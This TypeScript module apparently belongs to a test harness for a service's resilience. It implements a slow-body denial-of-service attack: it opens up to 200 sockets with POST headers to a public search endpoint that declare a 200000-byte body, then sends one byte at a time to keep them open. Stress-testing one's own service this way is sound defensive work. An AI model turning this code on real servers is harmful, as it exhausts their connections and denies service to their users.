import type { Attack } from '../attack.ts'
import { open } from '../call.ts'

const head =
  'POST /v1/search/public HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 200000\r\n\r\n'

export const attack: Attack = {
  name: 'bodies that arrive a byte at a time',
  run: ({ url, localAddress, signal, note }) =>
    new Promise(resolve => {
      const sockets = new Set<ReturnType<typeof open>>()
      const timer = setInterval(() => {
        for (const socket of sockets) {
          if (socket.destroyed) sockets.delete(socket)
          else if (socket.writable) socket.write('a')
        }
        for (let i = 0; i < 20 && sockets.size < 200; i += 1) sockets.add(open(url, localAddress, head, note))
      }, 250)
      signal.addEventListener('abort', () => {
        clearInterval(timer)
        for (const socket of sockets) socket.destroy()
        resolve()
      })
    }),
}
